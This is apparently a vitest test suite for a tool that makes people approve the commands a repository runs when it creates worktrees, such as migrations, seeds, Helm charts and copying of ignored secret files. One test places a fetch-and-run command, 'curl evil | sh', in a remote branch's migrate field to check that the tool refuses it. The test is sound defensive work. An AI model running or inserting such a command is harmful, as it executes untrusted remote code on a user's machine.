import { describe, expect, it, vi } from 'vitest';
import { approveCommands } from '../../../src/app/approval/approveCommands';
import { refreshTemplate } from '../../../src/app/environment/template/refreshTemplate';
import { databaseCommands, type Approve } from '../../../src/core/repositoryCommands';
import { database, EnvironmentWorld } from '../../support/environmentWorld';
import { environmentFileText } from '../../support/fakes/fakeEnvironmentFiles';

const root = '/code/repo';
const file = (migrate = database.migrate): string => environmentFileText(['web'], { ...database, migrate });
const all = ['node migrate.js', 'node seed.js', 'node web.js'];

/** Nothing is approved, and nobody is trusted. */
function aWorld(): EnvironmentWorld {
  const world = new EnvironmentWorld();
  world.approvals.approvesAll = false;
  world.commit(file());
  return world;
}

/** Says yes, and remembers what was asked. */
function yes(): { readonly approve: Approve; readonly asked: () => string[][] } {
  const approve = vi.fn<Approve>().mockResolvedValue(true);
  return { approve, asked: () => approve.mock.calls.map(([{ commands }]) => commands.map(({ text }) => text)) };
}

describe('what a repository runs on this machine', () => {
  it('is asked about once, whole, before anything is made', async () => {
    const world = aWorld();
    const before = await world.state();
    const seen: object[] = [];
    const { approve, asked } = yes();
    await world.createBranch('x', {
      approve: async (question, signal) => {
        seen.push(await world.state());
        return approve(question, signal);
      },
    });
    expect(seen).toEqual([before]);
    expect(asked()).toEqual([all]);
    expect(world.approvals.commands).toEqual(all);
    await world.createBranch('y');
    expect(world.commands.runs).toHaveLength(2);
  });

  it('is asked about again when migrate changes, that command alone', async () => {
    const world = aWorld();
    const { approve, asked } = yes();
    await world.createBranch('x', { approve });
    world.edited.set('/code/repo.worktrees/x', file(['node', 'other.js']));
    const update = { target: { kind: 'worktree', path: '/code/repo.worktrees/x' } } as const;
    await expect(world.create(update)).rejects.toMatchObject({ code: 'unapproved' });
    await world.create(update, { approve });
    await world.create(update);
    expect(asked()).toEqual([all, ['node other.js']]);
  });

  it('changes nothing where it is refused, or where there is nobody to ask', async () => {
    const world = aWorld();
    const before = await world.state();
    const refused = { code: 'unapproved', message: expect.stringContaining('nothing was done') };
    await expect(world.createBranch('x')).rejects.toMatchObject({
      ...refused,
      explanation: expect.stringContaining('database.migrate: node migrate.js'),
      commands: all.map((text) => expect.objectContaining({ text })),
    });
    await expect(world.createBranch('x', { approve: async () => false })).rejects.toMatchObject(refused);
    const turnedAway = new DOMException('no', 'AbortError');
    await expect(world.createBranch('x', { approve: () => Promise.reject(turnedAway) })).rejects.toBe(turnedAway);
    expect(await world.state()).toEqual(before);
    expect(world.approvals.commands).toEqual([]);
    expect([world.commands.runs, world.releases.names]).toEqual([[], []]);
  });

  it('runs nothing of a remote branch that was not approved', async () => {
    const world = aWorld();
    world.worktrees.makeRemoteBranch('origin/theirs');
    const { approve, asked } = yes();
    await world.createBranch('mine', { approve });
    const before = await world.state();
    // What the remote branch says; the folder that is trusted still says what it said.
    world.edited.set(root, file());
    world.trustedFolders = [root];
    world.commit(file(['sh', '-c', 'curl evil | sh']));
    await expect(world.createBranch('origin/theirs')).rejects.toMatchObject({
      code: 'unapproved',
      message: expect.stringContaining('origin/theirs'),
    });
    expect(await world.state()).toEqual(before);
    await world.createBranch('origin/theirs', { approve });
    expect(asked()).toEqual([all, ['sh -c "curl evil | sh"']]);
  });

  it('is approved by a trusted folder whose own file says the same, for new branches as well', async () => {
    const world = aWorld();
    world.trustedFolders = ['/code/no-file', root];
    world.edited.set('/code/no-file', undefined);
    const { approve, asked } = yes();
    await world.createBranch('new-from-main', { approve });
    expect(asked()).toEqual([]);
    // A terminal need not ask about it any more.
    world.trustedFolders = [];
    await world.createBranch('another');
    expect(world.approvals.commands).toEqual(all);
  });

  it('is what was approved: a file that changes while a person thinks is refused', async () => {
    const world = aWorld();
    world.trustedFolders = [];
    const request = { target: { kind: 'worktree', path: root } } as const;
    const approve: Approve = async () => {
      world.edited.set(root, file(['node', 'worse.js']));
      return true;
    };
    const before = await world.state();
    await expect(world.create(request, { approve })).rejects.toMatchObject({
      code: 'unapproved',
      explanation: expect.stringContaining('node worse.js'),
    });
    expect(await world.state()).toEqual(before);
    expect(world.commands.runs).toEqual([]);
  });

  describe('with a chart of its own', () => {
    const chart = 'all that the chart in deploy/chart runs';
    function aChartWorld(): EnvironmentWorld {
      const world = aWorld();
      world.commit(JSON.stringify({ ...(JSON.parse(file()) as object), chart: 'deploy/chart' }));
      return world;
    }

    it('is approved by the content of its files: another branch with the same path is asked about', async () => {
      const world = aChartWorld();
      world.trustedFolders = [root];
      await world.createBranch('mine');
      expect(world.approvals.commands).toEqual([chart, ...all]);
      const theirs = world.worktrees.commitRemotely('main', 'theirs');
      world.worktrees.digests.set(`${theirs}:deploy/chart`, 'others');
      const target = { kind: 'branch', branch: 'theirs', base: theirs } as const;
      const before = await world.state();
      await expect(world.create({ target })).rejects.toMatchObject({ code: 'unapproved' });
      expect(await world.state()).toEqual(before);
      const { approve, asked } = yes();
      await world.create({ target }, { approve });
      expect(asked()).toEqual([[chart]]);
    });

    it('is refused when its files change while a person thinks, and asked about again when they have changed', async () => {
      const world = aChartWorld();
      const update = { target: { kind: 'worktree', path: root } } as const;
      const approve: Approve = async () => {
        world.worktrees.digests.set(`${root}:deploy/chart`, 'changed');
        return true;
      };
      await expect(world.create(update, { approve })).rejects.toMatchObject({ code: 'unapproved' });
      expect(world.releases.names).toEqual([]);
      const again = yes();
      await world.create(update, again);
      await world.create(update);
      expect(again.asked()).toEqual([[chart]]);
    });
  });

  it('is a chart of its own in any cluster: Helm makes what that says with all that a person may do there', async () => {
    const world = aWorld();
    world.commit(environmentFileText(['web'], undefined, { chart: 'deploy/chart' }));
    world.cluster.identity = { kind: 'context', context: 'c', server: 'https://c.test' };
    const before = await world.state();
    await expect(world.createBranch('x')).rejects.toMatchObject({
      code: 'unapproved',
      message: expect.stringContaining('installs a chart of its own in the cluster'),
    });
    expect(await world.state()).toEqual(before);
    const { approve, asked } = yes();
    await world.createBranch('x', { approve });
    expect(asked()).toEqual([['all that the chart in deploy/chart makes in the cluster, in any namespace']]);
  });

  describe('with files that git ignores', () => {
    const copied = `of the main worktree's files that git ignores, .env, and what .worktreeinclude names: "*.pem"`;
    function aCopyWorld(kind: 'embedded' | 'context' = 'embedded'): EnvironmentWorld {
      const world = aWorld();
      world.commit(environmentFileText(['web'], undefined, { copy: ['.env'] }));
      world.worktrees.files.set('.worktreeinclude', '*.pem\n');
      world.worktreeFiles.ignored.add('.env');
      if (kind === 'context') world.cluster.identity = { kind, context: 'c', server: 'https://c.test' };
      return world;
    }

    it.each(['embedded', 'context'] as const)('carries none of them before it is approved (%s)', async (kind) => {
      const world = aCopyWorld(kind);
      const before = await world.state();
      await expect(world.createBranch('x')).rejects.toMatchObject({
        code: 'unapproved',
        message: expect.stringContaining("copies the main worktree's files that git ignores"),
        explanation: expect.stringContaining(`copy: ${copied}`),
      });
      expect([await world.state(), [...world.worktreeFiles.texts]]).toEqual([before, []]);
      const { approve, asked } = yes();
      await world.createBranch('x', { approve });
      expect(asked()).toEqual([kind === 'embedded' ? ['node web.js', copied] : [copied]]);
      await world.createBranch('y');
      world.worktrees.files.set('.worktreeinclude', '*.pem\n*.key\n');
      await expect(world.createBranch('z')).rejects.toMatchObject({ commands: [{ place: 'copy' }] });
    });

    it('is approved by a trusted folder that says the same, and by none that says another thing', async () => {
      const world = aCopyWorld();
      world.trustedFolders = [root];
      await world.createBranch('x');
      world.edited.set(root, environmentFileText(['web'], undefined, { copy: [] }));
      world.commit(environmentFileText(['web'], undefined, { copy: ['.env', 'more'] }));
      await expect(world.createBranch('y')).rejects.toMatchObject({ commands: [{ place: 'copy' }] });
    });

    it('is asked about with what else is asked where nothing of it is there yet: the next worktree needs no answer', async () => {
      const world = aCopyWorld();
      world.worktreeFiles.ignored.clear();
      const { approve, asked } = yes();
      await world.createBranch('x', { approve });
      expect(asked()).toEqual([['node web.js', copied]]);
      world.worktreeFiles.ignored.add('.env');
      await world.createBranch('y');
    });

    it('asks nobody about it alone where nothing of it is there, nor for what the editor names', async () => {
      const world = aCopyWorld('context');
      world.worktreeFiles.ignored.clear();
      await world.createBranch('x');
      expect(world.approvals.commands).toEqual([]);
      world.commit(environmentFileText(['web']));
      world.worktrees.files.delete('.worktreeinclude');
      world.worktreeFiles.ignored.add('.mine');
      world.includeFiles = ['.mine'];
      await world.createBranch('y');
    });
  });

  it('is approved by a window on a folder inside of the worktree as well', async () => {
    const world = aWorld();
    world.edited.set(`${root}/packages/web`, undefined);
    world.trustedFolders = [`${root}/packages/web`];
    await world.createBranch('x');
    expect(world.approvals.commands).toEqual(all);
  });

  it('is not approved by a trusted folder of another repository', async () => {
    const world = aWorld();
    world.trustedFolders = ['/code/other'];
    world.edited.set('/code/other', file());
    const ports = world.createPorts();
    const ofOther = { ...world.worktrees.repositoryInfo, id: 'ba9876543210', root: '/code/other' };
    const listed = await world.worktrees.list(world.worktrees.repositoryInfo);
    const worktrees = Object.create(world.worktrees) as typeof world.worktrees;
    worktrees.repository = async () => ofOther;
    worktrees.list = async () => listed.map((worktree) => ({ ...worktree, path: '/code/other' }));
    const commands = databaseCommands(JSON.parse(file()).database);
    const request = { repositoryId: world.worktrees.repositoryInfo.id, source: 'x', commands };
    const { signal } = new AbortController();
    await expect(approveCommands({ ...ports, worktrees }, request, { signal })).rejects.toMatchObject({
      code: 'unapproved',
    });
    await approveCommands({ ...ports, worktrees }, { ...request, repositoryId: ofOther.id }, { signal });
  });

  it('is only the database where a cluster runs containers', async () => {
    const world = aWorld();
    world.cluster.identity = { kind: 'context', context: 'c', server: 'https://c.test' };
    world.settings = { ...world.settings, 'postgres.url': 'postgres://db.test/postgres' };
    const { approve, asked } = yes();
    await world.createBranch('x', { approve });
    expect(asked()).toEqual([['node migrate.js', 'node seed.js']]);
  });
});

describe('refreshing a template', () => {
  const { signal } = new AbortController();
  const run = { signal, report: () => undefined };

  it('asks about migrate and seed, and refuses where there is nobody to ask', async () => {
    const world = aWorld();
    const refresh = refreshTemplate(world.createPorts());
    await expect(refresh({ folder: root }, run)).rejects.toMatchObject({ code: 'unapproved' });
    expect([world.commands.runs, [...world.databases.held]]).toEqual([[], []]);
    const { approve, asked } = yes();
    await refresh({ folder: root }, { ...run, approve });
    await refresh({ folder: root }, run);
    expect(asked()).toEqual([['node migrate.js', 'node seed.js']]);
  });
});
